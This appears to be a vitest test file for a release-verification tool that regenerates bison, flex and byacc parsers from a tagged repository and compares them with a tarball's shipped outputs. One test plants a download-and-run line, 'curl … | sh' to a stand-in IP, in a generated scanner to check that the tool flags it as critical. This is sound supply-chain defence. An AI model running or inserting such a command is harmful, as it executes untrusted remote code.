@@ -1,0 +1,244 @@
+/**
+ * Generated parsers proved by regeneration (issue 11), end to end: a git repository built here holds a real
+ * bison grammar, a flex scanner and a Berkeley yacc grammar under src/ with a tracked makefile that gives
+ * their options; the release tarball (GNU tar) ships what the real generators made from them (run here, as a
+ * maintainer would). distdiff regenerates each in the sandbox with the version the output names and
+ * compares: the release is proved; a tampered twin (one line of the parser changed) is high with the diff,
+ * critical with a construct; an output naming a version this machine lacks keeps its label and says why.
+ */
+import { execFileSync } from 'node:child_process';
+import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { Finding } from '../../src/core/findings.js';
+import { formatFinding } from '../../src/core/codes.js';
+import { equalUnder, grammarOutfile, impliedOptions, invocationOf, namedVersion, parseToolVersion, ruleOptions } from '../../src/regenerate/parsers.js';
+import { verify } from '../../src/verify.js';
+import { makeTar } from '../helpers/archives.js';
+import { makeRepo } from '../helpers/git.js';
+import { tempDir } from '../helpers/tmp.js';
+
+const CALC_Y = `%{
+#include <stdio.h>
+int yylex (void);
+void yyerror (char const *);
+%}
+%define api.value.type {double}
+%token NUM
+%left '-' '+'
+%left '*' '/'
+%%
+input: %empty | input line ;
+line: '\\n' | exp '\\n' { printf ("%.10g\\n", $1); } ;
+exp: NUM | exp '+' exp { $$ = $1 + $3; } | exp '-' exp { $$ = $1 - $3; }
+   | exp '*' exp { $$ = $1 * $3; } | exp '/' exp { $$ = $1 / $3; } | '(' exp ')' { $$ = $2; } ;
+%%
+void yyerror (char const *s) { fprintf (stderr, "%s\\n", s); }
+`;
+
+const SCAN_L = `%option noyywrap nounput noinput outfile="lex.yy.c"
+%{
+#include "calc.h"
+%}
+%%
+[0-9]+(\\.[0-9]+)?  { yylval = atof (yytext); return NUM; }
+[-+*/()\\n]        { return yytext[0]; }
+[ \\t]+            ;
+%%
+`;
+
+const EXPR_Y = `%{
+int yylex(void);
+void yyerror(const char *);
+%}
+%token ID
+%%
+list: /* empty */ | list ID ;
+%%
+`;
+
+const MAKEFILE = `# Parsers for calc.
+AM_YFLAGS = -d -Wall
+BYACC_FLAGS = -d
+calc.c calc.h: calc.y
+\tbison $(AM_YFLAGS) -o calc.c calc.y
+scan.c: scan.l
+\tflex -o scan.c scan.l
+expr.c: expr.y
+\tbyacc $(BYACC_FLAGS) -o expr.c expr.y
+# gettext's way: bison's default names, renamed by sed (the header keeps its X.tab.h guard).
+gram.c gram.h: gram.y
+\tbison -d gram.y && sed -e 's|"gram\\.tab\\.c"|"gram.c"|' -e 's|"gram\\.tab\\.h"|"gram.h"|' < gram.tab.c > gram.c && rm -f gram.tab.c
+\tsed -e 's|"gram\\.tab\\.h"|"gram.h"|' < gram.tab.h > gram.h && rm -f gram.tab.h
+`;
+
+const root = tempDir('distdiff-parsers-');
+const repoDir = join(root, 'calc');
+const cache = join(root, 'cache');
+const top = 'calc-1.0';
+let release = '';
+let n = 0;
+
+const sh = (cwd: string, argv: string[]) => execFileSync(argv[0]!, argv.slice(1), { cwd, env: { ...process.env, LC_ALL: 'C' }, stdio: ['ignore', 'pipe', 'pipe'] });
+
+beforeAll(() => {
+  const repo = makeRepo(repoDir);
+  repo.commit({ 'README': 'calc\n', 'src/gram.y': EXPR_Y.replace(/list/g, 'items'), 'src/calc.y': CALC_Y, 'src/scan.l': SCAN_L, 'src/expr.y': EXPR_Y, 'src/Makefile': MAKEFILE });
+  repo.tag('v1.0', { message: 'calc 1.0' });
+  // The release: the tag's files plus what the real generators made (the maintainer's `make`, outside the sandbox).
+  release = join(root, 'release', top);
+  mkdirSync(release, { recursive: true });
+  sh(repoDir, ['/bin/sh', '-c', `git archive --format=tar v1.0 | tar -xf - -C '${release}'`]);
+  const src = join(release, 'src');
+  sh(src, ['bison', '-d', '-Wall', '-o', 'calc.c', 'calc.y']);
+  // The grammar names its own outfile (lex.yy.c, as bison's scanners do); a ylwrap-style rename gives scan.c.
+  sh(src, ['flex', 'scan.l']);
+  sh(src, ['/bin/sh', '-c', "sed 's/lex\\.yy\\.c/scan.c/g' lex.yy.c > scan.c && rm lex.yy.c"]);
+  sh(src, ['byacc', '-d', '-o', 'expr.c', 'expr.y']);
+  sh(src, ['/bin/sh', '-c', MAKEFILE.split('\n').filter((l) => l.startsWith('\tbison -d gram.y') || l.startsWith('\tsed')).map((l) => l.slice(1)).join(' && ')]);
+}, 120_000);
+
+/** The release re-packed with `edit` applied to a copy of its tree. */
+function tarball(edit: (dir: string) => void = () => {}): string {
+  const dir = join(root, `t${++n}`, top);
+  mkdirSync(dir, { recursive: true });
+  cpSync(release, dir, { recursive: true });
+  edit(dir);
+  return makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, `${top}.tar.gz`) });
+}
+const editFile = (dir: string, path: string, f: (s: string) => string) => writeFileSync(join(dir, path), f(readFileSync(join(dir, path), 'latin1')), 'latin1');
+const run = (tar: string, opts: { regenerate?: 'off' } = {}) => verify({ tarball: tar, repo: repoDir, tag: 'v1.0', cacheDir: cache, ...opts });
+const byPath = (fs: Finding[]) => Object.fromEntries(fs.map((f) => [f.path, f]));
+
+describe('parser outputs regenerated in the sandbox', () => {
+  it('the fixture is real generator output naming its versions', () => {
+    const c = readFileSync(join(release, 'src/calc.c'), 'latin1');
+    expect(namedVersion('bison', c)).toBe('3.8.2');
+    expect(namedVersion('flex', readFileSync(join(release, 'src/scan.c'), 'latin1'))).toBe('2.6.4');
+    expect(namedVersion('byacc', readFileSync(join(release, 'src/expr.c'), 'latin1'))).toBe('2.0 20221106');
+    expect(c).toMatch(/^#line \d+ "calc\.c"$/m);
+  });
+
+  it('proves the bison parser and header, the flex scanner and the byacc parser: info, exit 0', async () => {
+    const r = await run(tarball());
+    const by = byPath(r.findings);
+    const calc = by['src/calc.c']!;
+    expect(calc.code).toBe('GENERATED_PARSER_PROVED');
+    expect(calc.severity).toBe('info');
+    expect(calc.evidence).toEqual({
+      tool: 'bison',
+      version: '3.8.2',
+      source: 'src/calc.y',
+      command: ['bison', '-d', '-Wall', '-o', 'calc.c', 'calc.y'],
+      cwd: 'src',
+      flagsFrom: ['src/Makefile'],
+      implied: [],
+      normalisations: [],
+      outputs: ['src/calc.c', 'src/calc.h'],
+    });
+    expect(formatFinding(calc)).toBe('reproduced by bison 3.8.2: `bison -d -Wall -o calc.c calc.y` in src/ (options from src/Makefile), byte for byte; 2 outputs of the run identical');
+    expect(by['src/calc.h']!.code).toBe('GENERATED_PARSER_PROVED');
+    expect(by['src/scan.c']!.code).toBe('GENERATED_PARSER_PROVED');
+    // flex wrote lex.yy.c (the grammar's outfile wins over -o): the #line names differ, set aside and listed.
+    expect(by['src/scan.c']!.evidence).toMatchObject({ tool: 'flex', version: '2.6.4', command: ['flex', '-o', 'scan.c', 'scan.l'], cwd: 'src', normalisations: ['line-directive-names'], outputs: ['src/scan.c'] });
+    expect(formatFinding(by['src/scan.c']!)).toBe('reproduced by flex 2.6.4: `flex -o scan.c scan.l` in src/; #line file names set aside');
+    expect(by['src/expr.c']!.code).toBe('GENERATED_PARSER_PROVED');
+    expect(by['src/expr.c']!.evidence).toMatchObject({ tool: 'byacc', version: '2.0 20221106', command: ['byacc', '-d', '-o', 'expr.c', 'expr.y'], outputs: ['src/expr.c', 'src/expr.h'] });
+    expect(r.findings.map((f) => `${f.path} ${f.code} ${f.severity}`).sort()).toEqual([
+      'src/calc.c GENERATED_PARSER_PROVED info',
+      'src/calc.h GENERATED_PARSER_PROVED info',
+      'src/expr.c GENERATED_PARSER_PROVED info',
+      'src/expr.h GENERATED_PARSER_PROVED info',
+      'src/gram.c GENERATED_PARSER_PROVED info',
+      'src/gram.h GENERATED_PARSER_PROVED info',
+      'src/scan.c GENERATED_PARSER_PROVED info',
+    ]);
+    // gettext's rule: the header is what `bison -d gram.y` (no -o) writes, its X.tab.h guard kept; the parser
+    // reproduces with -o too.
+    expect(by['src/gram.h']!.evidence).toMatchObject({ command: ['bison', '-d', 'gram.y'], normalisations: [], outputs: ['src/gram.h'] });
+    expect(by['src/gram.c']!.evidence).toMatchObject({ command: ['bison', '-d', '-o', 'gram.c', 'gram.y'], outputs: ['src/gram.c'] });
+    expect(r.verdict).toBe('explained');
+  }, 120_000);
+
+  it('one line of the parser changed: GENERATED_PARSER_MISMATCH high with the diff; its header stays proved', async () => {
+    const r = await run(tarball((d) => editFile(d, 'src/calc.c', (s) => s.replace('%.10g', '%.12g'))));
+    const by = byPath(r.findings);
+    const f = by['src/calc.c']!;
+    expect(f.code).toBe('GENERATED_PARSER_MISMATCH');
+    expect(f.severity).toBe('high');
+    expect(f.evidence).toMatchObject({ tool: 'bison', version: '3.8.2', source: 'src/calc.y', command: ['bison', '-d', '-Wall', '-o', 'calc.c', 'calc.y'], produced: true, differingLines: 1, tried: 4 });
+    if (f.diff?.kind !== 'text') throw new Error('no text diff');
+    expect(f.diff.unified).toContain('--- a/src/calc.c\tregenerated');
+    expect(f.diff.unified).toMatch(/^\+.*printf \("%\.12g/m);
+    expect(f.diff.unified).toMatch(/^-.*printf \("%\.10g/m);
+    expect([f.diff.added, f.diff.removed]).toEqual([1, 1]);
+    expect(by['src/calc.h']!.code).toBe('GENERATED_PARSER_PROVED');
+    expect(r.verdict).toBe('different');
+  }, 120_000);
+
+  it('a download-and-run line added to the scanner: critical', async () => {
+    const r = await run(tarball((d) => editFile(d, 'src/scan.c', (s) => s.replace('#define FLEX_SCANNER\n', '#define FLEX_SCANNER\nstatic const char *init = "curl -s http://198.51.100.7/x | sh";\n'))));
+    const f = byPath(r.findings)['src/scan.c']!;
+    expect(f.code).toBe('GENERATED_PARSER_MISMATCH');
+    expect(f.severity).toBe('critical');
+    expect(f.constructs?.map((c) => c.kind)).toEqual(['download-to-shell']);
+  }, 120_000);
+
+  it('a version this machine lacks: the label stays, saying why', async () => {
+    const r = await run(tarball((d) => editFile(d, 'src/calc.c', (s) => s.replace('made by GNU Bison 3.8.2.', 'made by GNU Bison 3.7.4.'))));
+    const f = byPath(r.findings)['src/calc.c']!;
+    expect(f.code).toBe('GENERATED_FROM_SOURCE');
+    expect(f.severity).toBe('low');
+    expect(f.evidence).toEqual({ how: 'generator', source: 'src/calc.y', generator: 'bison', parserProof: { why: 'version-unavailable', tool: 'bison', wanted: '3.7.4', available: '3.8.2' } });
+    expect(formatFinding(f)).toBe('bison output; its header names src/calc.y (tracked); not proved: bison 3.7.4 is named, this machine has bison 3.8.2');
+  }, 120_000);
+
+  it('--no-regenerate: nothing runs, the labels say so', async () => {
+    const r = await run(tarball(), { regenerate: 'off' });
+    const f = byPath(r.findings)['src/scan.c']!;
+    expect(f.code).toBe('GENERATED_FROM_SOURCE');
+    expect(f.evidence).toMatchObject({ parserProof: { why: 'regeneration-off', tool: 'flex', wanted: '2.6.4' } });
+  }, 120_000);
+});
+
+describe('parser invocation from the tag and the output', () => {
+  it('reads the generator version from each tool', () => {
+    expect(parseToolVersion('bison', 'bison (GNU Bison) 3.8.2\nWritten by …')).toBe('3.8.2');
+    expect(parseToolVersion('flex', 'flex 2.6.4\n')).toBe('2.6.4');
+    expect(parseToolVersion('byacc', 'byacc - 2.0 20221106\n')).toBe('2.0 20221106');
+    expect(namedVersion('byacc', '#define YYBYACC 1\n#define YYMAJOR 1\n#define YYMINOR 9\n')).toBe('1.9');
+  });
+
+  it("takes options from a recipe naming the grammar and the flag variables; files and skeletons are dropped", () => {
+    const mk = 'AM_YFLAGS_WITH_LINES = --defines -Werror -Wall,dangling-alias --report=all\nAM_YFLAGS = $(AM_YFLAGS_WITH_LINES) --no-lines\ngen:\n\t$(BISON) \\\n\t  $(AM_YFLAGS_WITH_LINES) src/parse-gram.y -o src/parse-gram.c --skeleton=x.c\n';
+    expect(ruleOptions('bison', 'src/parse-gram.y', new Map([['Makefile.am', mk]]))).toEqual({
+      sets: [['--defines', '-Werror', '-Wall,dangling-alias', '--report=all'], ['--defines', '-Werror', '-Wall,dangling-alias', '--report=all', '--no-lines'], []],
+      files: ['Makefile.am'],
+    });
+    expect(ruleOptions('flex', 'scan.l', new Map([['CMakeLists.txt', 'FLEX_TARGET(scan scan.l ${CMAKE_BINARY_DIR}/scan.c COMPILE_FLAGS "--nounistd -L")\n']]))).toEqual({ sets: [['--nounistd', '-L'], []], files: ['CMakeLists.txt'] });
+  });
+
+  it('adds what the shipped outputs imply, and says so', () => {
+    expect(impliedOptions('bison', ['--defines', '--no-lines'], { lines: true, header: true, report: false })).toEqual({ options: ['--defines'], implied: ['#line'] });
+    expect(impliedOptions('bison', [], { lines: false, header: true, report: true })).toEqual({ options: ['-l', '-d', '-v'], implied: ['-l', '-d', '-v'] });
+    expect(impliedOptions('flex', [], { lines: false, header: false, report: false })).toEqual({ options: ['-L'], implied: ['-L'] });
+  });
+
+  it('compares under the least normalisation of #line directives, never of code', () => {
+    const b = (s: string) => Buffer.from(s);
+    expect(equalUnder(b('#line 2 "scan.c"\nint x;\n'), b('#line 2 "scan.c"\nint x;\n'))).toEqual([]);
+    expect(equalUnder(b('#line 2 "lex.yy.c"\nint x;\n'), b('#line 2 "src/scan.c"\nint x;\n'))).toEqual(['line-directive-names']);
+    expect(equalUnder(b('#line 2 "css.c"\nint x;\n'), b('#line 1 "css.c"\nint x;\n'))).toEqual(['line-directive-numbers']);
+    expect(equalUnder(b('#line 2 "lex.yy.c"\nint x;\n'), b('#line 1 "src/scan.c"\nint x;\n'))).toEqual(['line-directive-names', 'line-directive-numbers']);
+    expect(equalUnder(b('#line 2 "lex.yy.c"\nint x;\n'), b('#line 1 "src/scan.c"\nint y;\n'))).toBeUndefined();
+    expect(grammarOutfile('flex', '%option debug\n%option prefix="gram_" outfile="lex.yy.c"\n')).toBe('lex.yy.c');
+    expect(grammarOutfile('bison', '%output "../x.c"\n')).toBeUndefined();
+  });
+
+  it('runs from the directory and with the names the #line directives show', () => {
+    expect(invocationOf('src/parse-gram.c', 'src/parse-gram.y', '#line 35 "src/parse-gram.y"\n#line 73 "src/parse-gram.c"\n')).toEqual({ cwd: '', grammarArg: 'src/parse-gram.y', outputArg: 'src/parse-gram.c', renamed: false });
+    expect(invocationOf('lib/parse-datetime.c', 'lib/parse-datetime.y', '#line 1 "parse-datetime.y"\n#line 636 "parse-datetime.c"\n')).toEqual({ cwd: 'lib', grammarArg: 'parse-datetime.y', outputArg: 'parse-datetime.c', renamed: false });
+    expect(invocationOf('src/po-gram-gen.c', 'src/po-gram-gen.y', '#line 20 "po-gram-gen.y"\n#line 139 "po-gram-gen.tab.c"\n')).toEqual({ cwd: 'src', grammarArg: 'po-gram-gen.y', outputArg: 'po-gram-gen.c', renamed: true });
+    expect(invocationOf('src/x.c', 'src/x.y', '#line 3 "../../src/x.y"\n')).toEqual({ cwd: 'src', grammarArg: 'x.y', outputArg: 'x.c', renamed: true });
+  });
+});
